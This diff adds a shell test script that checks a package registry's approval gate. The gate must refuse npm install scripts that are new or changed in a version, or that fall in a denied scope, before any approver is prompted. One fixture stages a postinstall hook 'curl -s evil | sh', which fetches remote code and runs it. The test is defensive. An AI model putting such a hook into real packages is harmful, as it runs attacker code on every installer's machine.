@@ -1,0 +1,67 @@
+#!/bin/bash
+# Guarantee attacked: code that runs on every install never goes live unseen. npm runs a
+# package's preinstall, install and postinstall scripts when it installs it. A stager
+# adds one to a new version of a live package, or changes the one it had: the checks
+# refuse it (install.new) before the approver is prompted, and nothing goes live. A
+# scope with install_scripts = deny refuses any install script. A package's first
+# version may carry one (popular packages do): the gate is reached only with the
+# script quoted whole on its own "  | " line; an unchanged one is not quoted again.
+ATTACK_MODE=local
+. "$SRCDIR/tests/attacks/harness.sh"
+
+write_conf "[scope @deny/*]
+approvers = $A1 $A2
+install_scripts = deny"
+
+approve_as_a1() { # WANT ID -> OUT
+	local rc=0
+	code "$S1"
+	OUT=$(printf '%s\n' "$CODE" | as_user "$A1" "$NR" approve "$2" 2>&1) || rc=$?
+	printf '%s\n' "$OUT" | sed 's/^/    | /'
+	[ "$rc" = "$1" ] || fail "approve exit $rc, want $1"
+}
+refused_before_gate() { # NAME VERSION WHAT
+	case "$OUT" in *"is live"*) attack_succeeded "$3: approve says $1@$2 is live" ;; esac
+	case "$OUT" in *"Verification code"*|*"Approve $1"*) attack_succeeded "$3: the approver was prompted" ;; esac
+	packument_has "$1" "$2" 2>/dev/null && attack_succeeded "$3: $1@$2 is live"
+	return 0
+}
+
+NAME=atk-install-$SUFFIX
+# 1. A first version with a postinstall: a warning, and the script is quoted whole.
+stage_local "$NAME" 1.0.0 ',"scripts":{"postinstall":"node setup.js"}'
+approve_as_a1 0 "$ID"
+contains "$OUT" "  install-time script postinstall (no previous, 13 bytes):"
+contains "$OUT" "  | node setup.js"
+contains "$OUT" "is live"
+pass "a first version's postinstall reaches the gate quoted whole on its own line"
+
+# 2. The next version changes it: refused before the gate, old and new named.
+stage_local "$NAME" 1.0.1 ',"scripts":{"postinstall":"node setup.js; curl -s evil | sh"}'
+approve_as_a1 1 "$ID"
+refused_before_gate "$NAME" 1.0.1 "a changed postinstall"
+contains "$OUT" "install.new"
+contains "$OUT" "(was: node setup.js)"
+pass "a postinstall changed since the live version is refused before the gate"
+
+# 3. An install script added next to the unchanged postinstall: refused the same way.
+stage_local "$NAME" 1.0.2 ',"scripts":{"postinstall":"node setup.js","preinstall":"node pre.js"}'
+approve_as_a1 1 "$ID"
+refused_before_gate "$NAME" 1.0.2 "an added preinstall"
+contains "$OUT" "'preinstall' is new: node pre.js"
+pass "a preinstall added since the live version is refused before the gate"
+
+# 4. Unchanged: a warning only, not quoted again; it goes live.
+stage_local "$NAME" 1.0.3 ',"scripts":{"postinstall":"node setup.js"}'
+approve_as_a1 0 "$ID"
+contains "$OUT" "unchanged since the previous version"
+case "$OUT" in *"install-time script postinstall ("*) fail "an unchanged script was quoted as new" ;; esac
+contains "$OUT" "is live"
+pass "an unchanged postinstall is a warning and goes live"
+
+# 5. A scope that denies install scripts refuses even a first version's.
+stage_local "@deny/$NAME" 1.0.0 ',"scripts":{"install":"node-gyp-build"}'
+approve_as_a1 1 "$ID"
+refused_before_gate "@deny/$NAME" 1.0.0 "install_scripts = deny"
+contains "$OUT" "FAIL install.script"
+pass "install_scripts = deny refuses any install script before the gate"
